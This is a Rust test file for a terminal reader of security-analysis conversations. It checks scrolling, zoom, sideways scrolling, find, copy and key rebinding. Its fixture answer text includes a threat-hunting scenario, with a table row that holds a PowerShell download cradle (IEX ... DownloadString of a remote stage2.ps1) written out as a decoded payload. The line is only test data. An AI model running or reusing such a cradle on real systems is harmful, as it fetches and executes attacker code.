//! The reader through `update`: drawn-row scrolling, clamping, questions, zoom, narrow screens,
//! sideways scrolling, find, copy and following an ask.

use crate::input::{KeyCode, KeyEvent, KeyModifiers};
use proptest::prelude::*;

use super::*;
use crate::output::Effect;
use crate::protocol::{Command, Event};
use crate::state::Mode;
use crate::update::{Msg, init, update};
use sctui_graph::conversation::Turn;
use sctui_graph::models::{Evaluation, GraphTime, Page, Prompt, Session};

fn key(code: KeyCode) -> Msg {
    Msg::Key(KeyEvent::new(code, KeyModifiers::NONE))
}

fn ch(c: char) -> Msg {
    key(KeyCode::Char(c))
}

fn prompt(id: &str, content: &str) -> Prompt {
    serde_json::from_value(serde_json::json!({"id": id, "type": "prompt", "content": content}))
        .unwrap()
}

fn evaluation(state: &str, content: Option<&str>) -> Evaluation {
    serde_json::from_value(serde_json::json!({
        "id": "e", "state": state,
        "result": content.map(|c| serde_json::json!({"type": "success", "content": c})),
        "createdDateTime": "2026-01-31T11:59:50Z", "runStartDateTime": "2026-01-31T11:59:52Z"
    }))
    .unwrap()
}

/// An answer with prose long enough to wrap, a list, a wide table and a code block.
fn answer(i: usize) -> String {
    format!(
        "## Finding {i}\n\nThe sign-in from **203.0.113.{i}** matches a known password-spray \
         pattern seen across fourteen accounts in three minutes; MFA was not challenged.\n\n\
         - a list item long enough to wrap onto a second row at most pane widths here\n\
         - short\n\n\
         | Device | Decoded payload |\n|---|---|\n| WKS-{i} | \
         IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{i}/stage2.ps1') |\n\n\
         ```kql\nDeviceProcessEvents\n| where DeviceName == \"WKS-{i}\" and ProcessCommandLine has \"-enc\"\n```\n\n\
         Last line of answer {i}."
    )
}

fn turns(n: usize) -> Vec<Turn> {
    (0..n)
        .map(|i| Turn {
            prompt: prompt(
                &format!("p{i}"),
                &format!("Question {i}: what happened here?"),
            ),
            evaluation: Some(evaluation("completed", Some(&answer(i)))),
        })
        .collect()
}

/// A `width`×`height` app with one session whose conversation has `n` answered questions.
fn reading(width: u16, height: u16, n: usize) -> State {
    let mut state = State::new("default", "demo");
    state.viewport = (width, height);
    init(&mut state);
    let session = Session {
        id: "s1".into(),
        display_name: Some("Risky sign-ins".into()),
        created_date_time: Some(GraphTime::new("2026-01-31T11:58:00.0000000Z")),
        last_modified_date_time: Some(GraphTime::new("2026-01-31T11:59:00.0000000Z")),
    };
    let req = state.requests.page().expect("a page request");
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: Page {
                value: vec![session],
                next_link: None,
                count: None,
            },
        }),
    );
    let out = update(&mut state, Msg::Settled);
    let [Command::LoadConversation { req, .. }] = out.commands[..] else {
        panic!("{out:?}")
    };
    update(
        &mut state,
        Msg::Worker(Event::ConversationLoaded {
            req,
            session_id: "s1".into(),
            runs: turns(n).into_iter().map(Into::into).collect(),
        }),
    );
    state
}

fn rows(state: &State) -> usize {
    state.reader.layout.as_ref().unwrap().rows.len()
}

#[test]
fn g_shows_the_last_row_and_k_moves_up_at_once() {
    let mut state = reading(120, 36, 4);
    update(&mut state, key(KeyCode::Enter));
    update(&mut state, ch('G'));
    let height = state.reader.height;
    assert!(rows(&state) > height);
    assert_eq!(state.reader.scroll, rows(&state) - height);
    let layout = state.reader.layout.as_ref().unwrap();
    assert_eq!(layout.row_text(rows(&state) - 1), "Last line of answer 3.");
    update(&mut state, ch('k'));
    assert_eq!(state.reader.scroll, rows(&state) - height - 1);
    update(&mut state, ch('G'));
    update(&mut state, key(KeyCode::PageUp));
    assert_eq!(state.reader.scroll, rows(&state) - height - (height - 1));
    update(&mut state, ch('G'));
    update(&mut state, ch('j'));
    assert_eq!(
        state.reader.scroll,
        rows(&state) - height,
        "j at the end stays"
    );
}

#[test]
fn the_layout_is_rebuilt_only_when_its_inputs_change() {
    let mut state = reading(120, 36, 2);
    let before = state.reader.layout.clone().unwrap();
    let now = state.now;
    update(&mut state, Msg::Tick(now));
    update(&mut state, ch('j'));
    let after = state.reader.layout.as_ref().unwrap();
    assert!(std::ptr::eq(before.rows.as_ptr(), before.rows.as_ptr()));
    assert_eq!(before.fingerprint, after.fingerprint);
    assert_eq!(before.rows.len(), after.rows.len());
    update(&mut state, Msg::Resize(90, 36));
    assert_ne!(state.reader.layout.as_ref().unwrap().width, before.width);
}

#[test]
fn resizing_keeps_the_offset_in_bounds() {
    let mut state = reading(64, 20, 3);
    update(&mut state, key(KeyCode::Enter));
    update(&mut state, ch('G'));
    update(&mut state, Msg::Resize(200, 70));
    assert!(state.reader.scroll <= max_scroll(&state));
    update(&mut state, ch('k'));
    assert!(state.reader.scroll <= max_scroll(&state));
}

#[test]
fn narrow_screens_show_one_pane_at_a_time() {
    let mut state = reading(64, 20, 2);
    assert!(!detail_alone(&state));
    update(&mut state, key(KeyCode::Enter));
    assert!(
        detail_alone(&state),
        "Enter opens the conversation full width"
    );
    assert_eq!(state.reader.layout.as_ref().unwrap().width, 62);
    update(&mut state, key(KeyCode::Esc));
    assert!(!detail_alone(&state), "Esc goes back to the list");
    update(&mut state, key(KeyCode::Tab));
    assert!(detail_alone(&state));
    update(&mut state, key(KeyCode::Tab));
    assert_eq!(state.focus, Focus::List);
}

#[test]
fn zoom_reads_full_screen_and_toggles_back() {
    let mut state = reading(120, 36, 2);
    update(&mut state, ch('z'));
    assert!(detail_alone(&state));
    assert_eq!(state.focus, Focus::Detail);
    assert_eq!(state.reader.layout.as_ref().unwrap().width, 118);
    update(&mut state, ch('z'));
    assert!(!detail_alone(&state));
    assert_eq!(state.reader.layout.as_ref().unwrap().width, 64);
}

#[test]
fn brackets_move_between_questions() {
    let mut state = reading(120, 20, 4);
    update(&mut state, key(KeyCode::Enter));
    let questions: Vec<usize> = state
        .reader
        .layout
        .as_ref()
        .unwrap()
        .turns
        .iter()
        .map(|t| t.question)
        .collect();
    update(&mut state, ch(']'));
    assert_eq!(state.reader.scroll, questions[0]);
    update(&mut state, ch(']'));
    assert_eq!(state.reader.scroll, questions[1]);
    update(&mut state, ch('['));
    assert_eq!(state.reader.scroll, questions[0]);
    update(&mut state, ch('['));
    assert_eq!(state.reader.scroll, 0);
}

#[test]
fn h_and_l_shift_wide_rows_within_bounds() {
    let mut state = reading(64, 20, 1);
    update(&mut state, key(KeyCode::Enter));
    // the payload table is wrapped to fit; kept wide (W) it is wider than the pane
    let fitted = max_hscroll(&state);
    update(&mut state, ch('W'));
    assert!(state.reader.wide_tables);
    assert!(
        max_hscroll(&state) > fitted.max(8),
        "the payload column is wider than the pane"
    );
    update(&mut state, ch('l'));
    assert_eq!(state.reader.hscroll, 8);
    for _ in 0..100 {
        update(&mut state, key(KeyCode::Right));
    }
    assert_eq!(state.reader.hscroll, max_hscroll(&state));
    update(&mut state, ch('h'));
    assert_eq!(state.reader.hscroll, max_hscroll(&state) - 8);
    // in the list, l does nothing
    update(&mut state, key(KeyCode::Esc));
    let before = state.reader.hscroll;
    update(&mut state, ch('l'));
    assert_eq!(state.reader.hscroll, before);
}

#[test]
fn find_jumps_to_matches_and_n_cycles() {
    let mut state = reading(120, 20, 4);
    update(&mut state, key(KeyCode::Enter));
    update(&mut state, ch('/'));
    assert!(matches!(state.mode, Mode::Finding));
    for c in "answer 3".chars() {
        update(&mut state, ch(c));
    }
    let layout = state.reader.layout.as_ref().unwrap();
    let m = state.reader.find.matches[0];
    assert_eq!(state.reader.find.matches.len(), 1);
    assert!(layout.row_text(m.row).contains("answer 3"));
    assert!(m.row >= state.reader.scroll && m.row < state.reader.scroll + state.reader.height);
    update(&mut state, key(KeyCode::Enter));
    assert!(matches!(state.mode, Mode::Browsing));
    // a query with several matches: n and N move through them
    update(&mut state, ch('/'));
    for c in "WKS-".chars() {
        update(&mut state, ch(c));
    }
    update(&mut state, key(KeyCode::Enter));
    let count = state.reader.find.matches.len();
    assert!(count >= 8, "{count}");
    let first = state.reader.find.current;
    update(&mut state, ch('n'));
    assert_eq!(state.reader.find.current, (first + 1) % count);
    update(&mut state, ch('N'));
    update(&mut state, ch('N'));
    assert_eq!(state.reader.find.current, (first + count - 1) % count);
    // Esc while typing drops the query and goes back
    let top = state.reader.scroll;
    update(&mut state, ch('/'));
    update(&mut state, ch('x'));
    update(&mut state, key(KeyCode::Esc));
    assert!(state.reader.find.matches.is_empty());
    assert_eq!(state.reader.scroll, top);
}

#[test]
fn slash_in_the_list_still_filters() {
    let mut state = reading(120, 20, 1);
    update(&mut state, ch('/'));
    assert!(matches!(state.mode, Mode::Filtering));
}

#[test]
fn c_copies_the_answer_and_shift_c_the_code_in_view() {
    let mut state = reading(120, 30, 3);
    update(&mut state, key(KeyCode::Enter));
    update(&mut state, ch(']'));
    update(&mut state, ch(']'));
    let out = update(&mut state, ch('c'));
    assert!(
        matches!(out.effects.as_slice(), [Effect::Copy { text, .. }] if *text == answer(1).trim())
    );
    let out = update(&mut state, ch('C'));
    assert!(matches!(
        out.effects.as_slice(),
        [Effect::Copy { text, .. }]
            if text == "DeviceProcessEvents\n| where DeviceName == \"WKS-1\" and ProcessCommandLine has \"-enc\""
    ));
}

#[test]
fn an_ask_is_shown_and_its_answer_stays_in_view_until_the_user_scrolls() {
    let mut state = reading(64, 20, 3);
    update(&mut state, ch('a'));
    for c in "and now?".chars() {
        update(&mut state, ch(c));
    }
    let out = update(&mut state, key(KeyCode::Enter));
    let Some(Command::Ask { req, .. }) = out.commands.first().cloned() else {
        panic!("{out:?}")
    };
    update(
        &mut state,
        Msg::Worker(Event::Asked {
            req,
            session_id: "s1".into(),
            prompt: prompt("p9", "and now?"),
            evaluation: evaluation("running", None),
        }),
    );
    assert!(
        detail_alone(&state),
        "the narrow screen switches to the conversation"
    );
    let question = state.reader.layout.as_ref().unwrap().turns[3].question;
    assert_eq!(
        state.reader.scroll.min(question),
        question.min(max_scroll(&state))
    );
    assert!(
        state.reader.scroll <= question && question < state.reader.scroll + state.reader.height
    );
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "s1".into(),
            prompt_id: "p9".into(),
            evaluation: evaluation("completed", Some(&answer(9))),
        }),
    );
    let layout = state.reader.layout.as_ref().unwrap();
    assert_eq!(state.reader.scroll, layout.turns[3].question);
    // scrolled away: the next change does not pull the view back
    update(&mut state, ch('g'));
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "s1".into(),
            prompt_id: "p9".into(),
            evaluation: evaluation("completed", Some("changed")),
        }),
    );
    assert_eq!(state.reader.scroll, 0);
}

#[test]
fn the_detail_keys_are_rebindable_and_listed_in_help() {
    let keymap = crate::Keymap::default();
    let mut rows = keymap.help_rows(crate::keys::KeyMode::Browse);
    rows.extend(keymap.help_rows(crate::keys::KeyMode::Detail));
    for (keys, action) in [
        ("z", Action::Zoom),
        ("]", Action::NextQuestion),
        ("[", Action::PrevQuestion),
        ("h ←", Action::ScrollLeft),
        ("l →", Action::ScrollRight),
        ("c", Action::CopyAnswer),
        ("C", Action::CopyCodeBlock),
        ("/", Action::Find),
        ("n", Action::FindNext),
        ("N", Action::FindPrev),
    ] {
        assert!(
            rows.contains(&(keys.to_string(), action.describe())),
            "{keys}: {rows:?}"
        );
    }
    let (map, conflicts) = crate::Keymap::from_config(
        crate::keys::Preset::Vim,
        &[crate::keys::KeyOverride {
            mode: crate::keys::KeyMode::Browse,
            action: "zoom".into(),
            keys: vec!["Z".into()],
            line: 3,
        }],
    )
    .unwrap();
    assert!(conflicts.is_empty(), "{conflicts:?}");
    let mut state = reading(120, 30, 1);
    state.settings.keymap = map;
    update(&mut state, ch('Z'));
    assert!(state.reader.zoom);
}

use crate::Action;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any sequence of scroll keys keeps the offset in `0..=rows - height`, and every row can be
    /// brought on screen.
    #[test]
    fn scrolling_stays_in_bounds_and_reaches_every_row(
        keys in proptest::collection::vec(0usize..10, 0..60),
        width in 30u16..200,
        height in 8u16..60,
    ) {
        let mut state = reading(width, height, 3);
        update(&mut state, key(KeyCode::Enter));
        let all = [
            ch('j'), ch('k'), key(KeyCode::PageDown), key(KeyCode::PageUp), ch('g'), ch('G'),
            ch(']'), ch('['), Msg::Resize(width / 2 + 20, height), Msg::Resize(width, height),
        ];
        for k in keys {
            let msg = match &all[k] {
                Msg::Key(e) => Msg::Key(*e),
                Msg::Resize(w, h) => Msg::Resize(*w, *h),
                _ => unreachable!(),
            };
            update(&mut state, msg);
            prop_assert!(state.reader.scroll <= max_scroll(&state));
        }
        // from the top, j reaches every row
        update(&mut state, ch('g'));
        let total = rows(&state);
        let mut seen = vec![false; total];
        for _ in 0..total {
            let top = state.reader.scroll;
            for s in seen.iter_mut().skip(top).take(state.reader.height) {
                *s = true;
            }
            update(&mut state, ch('j'));
        }
        prop_assert!(seen.iter().all(|s| *s));
    }
}
